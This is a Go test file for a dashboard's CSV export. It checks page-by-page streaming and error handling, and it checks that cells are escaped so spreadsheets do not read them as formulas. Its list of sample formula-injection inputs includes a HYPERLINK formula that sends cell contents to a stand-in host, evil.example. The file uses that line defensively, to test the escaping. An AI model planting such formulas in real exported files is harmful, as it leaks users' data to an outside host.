//go:build !race

package web

import (
	"encoding/csv"
	"errors"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/chatguard/chatguard/internal/web/access"
)

// limitedReceiver is the receiver of an export. It counts what the export writes and disconnects
// after the given number of chunks.
type limitedReceiver struct {
	httptest.ResponseRecorder
	chunks, deadlines int
	maxChunks         int
}

func (r *limitedReceiver) SetWriteDeadline(time.Time) error {
	r.deadlines++
	return nil
}

func (r *limitedReceiver) Write(data []byte) (int, error) {
	if r.chunks++; r.chunks > r.maxChunks {
		return 0, errors.New("the reader is gone")
	}
	return r.ResponseRecorder.Write(data)
}

// pages returns a function that returns n pages of one row each, and then err. reads counts the
// calls of the function.
func pages(n int, err error) (next func() ([][]string, error), reads *int) {
	reads = new(int)
	return func() ([][]string, error) {
		if *reads++; *reads <= n {
			return [][]string{{strconv.Itoa(*reads)}}, nil
		}
		return nil, err
	}, reads
}

// An export goes out page by page, each with its own deadline, and is never held in memory as a
// whole.
func TestExportCSV_Streams(t *testing.T) {
	d := dash(t)
	request := httptest.NewRequest("GET", "/api/v1/journal", nil)
	export := func(r *limitedReceiver, next func() ([][]string, error)) error {
		r.ResponseRecorder = *httptest.NewRecorder()
		return d.server.archive.exportCSV(r, request, access.Caller{}, "things", []string{"number"}, next)
	}

	whole := &limitedReceiver{maxChunks: 100}
	next, reads := pages(5, nil)
	if err := export(whole, next); err != nil || *reads != 6 || whole.chunks != 6 || whole.deadlines != 6 {
		t.Errorf("whole: %v; %d pages read, %d chunks written, with %d deadlines", err, *reads, whole.chunks, whole.deadlines)
	}
	if got := whole.Body.String(); got != "number\n1\n2\n3\n4\n5\n" {
		t.Errorf("whole: %q", got)
	}
	if name := whole.Header().Get("Content-Disposition"); !strings.HasPrefix(name, `attachment; filename="chatguard-things-20`) {
		t.Errorf("it is called %s", name)
	}

	gone := &limitedReceiver{maxChunks: 2}
	next, reads = pages(1000, nil)
	if err := export(gone, next); err != nil || *reads != 3 {
		t.Errorf("the reader is gone: %v, and %d pages were read", err, *reads)
	}

	damaged := errors.New("damaged")
	next, _ = pages(0, damaged)
	if err := export(&limitedReceiver{maxChunks: 100}, next); !errors.Is(err, damaged) {
		t.Errorf("in trouble from the beginning: %v", err)
	}
	defer func() {
		if recover() != http.ErrAbortHandler {
			t.Error("a part was answered as if it were the whole")
		}
	}()
	next, _ = pages(3, damaged)
	export(&limitedReceiver{maxChunks: 100}, next)
}

func TestEscapeCell_NoFormulas(t *testing.T) {
	for text, want := range map[string]string{
		"":            "",
		"hello":       "hello",
		"a=1":         "a=1",
		"=1+1":        "'=1+1",
		"+1":          "'+1",
		"-1":          "'-1",
		"@SUM(A1)":    "'@SUM(A1)",
		"\thi":        "'\thi",
		"\t=1":        "'\t'=1",
		"\r=1":        "'\r'=1",
		"\n=1":        "'\n'=1",
		" =1":         "' =1",
		"hi; =1;2":    "hi;' =1;2",
		"a;;b\t;=":    "a;;b\t;'=",
		"ä, \"b\"\nc": "ä, \"b\"\nc",
	} {
		if got := escapeCell(text); got != want {
			t.Errorf("%q is written %q, want %q", text, got, want)
		}
	}
}

// formulas are texts that spreadsheets have read as formulas, or parts of them.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", " =1", "\u00a0=1", `"=1"`,
	"hi;=1", `hi;=HYPERLINK("http://evil.example/?"&A1;"click")`, "hi; =1", "hi;;=1", `hi;"=1+1"`, `hi";"=1+1"`, "hi\t=1", "hi\t \"@SUM(A1)\"",
	"hi\n=1", "hi\r+1", "hi\n;\t -1", "＝1+1", "hi;＠SUM(A1)", ";;;@x;-1\t+1\n=1",
}

// The file is safe in spreadsheets that expect another separator; in most of Europe that is a
// semicolon.
func TestEscapeCell_EverySeparator(t *testing.T) {
	d := dash(t)
	for _, text := range formulas {
		r := &limitedReceiver{ResponseRecorder: *httptest.NewRecorder(), maxChunks: 100}
		rows := [][]string{{escapeCell(text), "7", escapeCell(text), escapeCell(text)}}
		page := func() (next [][]string, err error) { next, rows = rows, nil; return next, nil }
		if err := d.server.archive.exportCSV(r, httptest.NewRequest("GET", "/api/v1/journal", nil), access.Caller{}, "things", []string{"a", "b", "c", "d"}, page); err != nil {
			t.Fatal(err)
		}
		for _, separator := range []rune{',', ';', '\t'} {
			for _, c := range spreadsheetCells(r.Body.String(), separator) {
				if c = strings.TrimLeftFunc(c, unicode.IsSpace); c != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(c)[0]) {
					t.Errorf("%q, separated by %q, gives the formula %q", text, separator, c)
				}
			}
		}
	}
}

// spreadsheetCells returns the cells of a file as lenient spreadsheets read it. A quote counts only
// at the start of a cell. Text after the closing quote belongs to the cell.
func spreadsheetCells(file string, separator rune) (cells []string) {
	var c strings.Builder
	begun, quoted := false, false
	text := []rune(file)
	for i := 0; i < len(text); i++ {
		switch r := text[i]; {
		case quoted && r == '"' && i+1 < len(text) && text[i+1] == '"':
			c.WriteRune(r)
			i++
		case quoted && r == '"':
			quoted = false
		case !begun && r == '"':
			begun, quoted = true, true
		case !quoted && (r == separator || r == '\n' || r == '\r'):
			cells, begun = append(cells, c.String()), false
			c.Reset()
		default:
			begun = true
			c.WriteRune(r)
		}
	}
	return append(cells, c.String())
}

// parseTable parses an exported file.
func (a answer) parseTable(t testing.TB) [][]string {
	t.Helper()
	if kind := a.Header.Get("Content-Type"); kind != "text/csv; charset=utf-8" {
		t.Errorf("the file is %s: %s", kind, a.body)
	}
	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("%v in %q", err, a.body)
	}
	return rows
}

// column returns the cells of the column with that name.
func column(t testing.TB, rows [][]string, name string) (cells []string) {
	t.Helper()
	i := slices.Index(rows[0], name)
	if i < 0 {
		t.Fatalf("no column %q in %q", name, rows[0])
	}
	for _, row := range rows[1:] {
		cells = append(cells, row[i])
	}
	return cells
}
